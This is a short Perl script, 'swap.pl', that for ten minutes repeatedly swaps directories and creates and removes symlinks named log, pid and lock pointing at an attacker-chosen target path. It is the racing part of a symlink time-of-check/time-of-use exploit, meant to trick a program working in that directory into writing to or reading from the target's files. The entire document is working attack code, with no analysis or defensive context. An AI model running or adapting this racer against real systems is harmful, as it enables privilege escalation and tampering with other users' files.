# swap.pl DIRECTORY PRIZE: without end, for ten minutes at most, puts links to
# PRIZE and to what is in it where a directory and files of DIRECTORY are.
alarm 600;
my ($directory, $prize) = @ARGV;
chdir $directory or die;
while (1) {
	rename "d", "x";
	rename "l", "d";
	rename "d", "l";
	rename "x", "d";
	for my $name ("log", "pid", "lock") {
		symlink "$prize/$name", "f/$name";
		unlink "f/$name";
	}
}
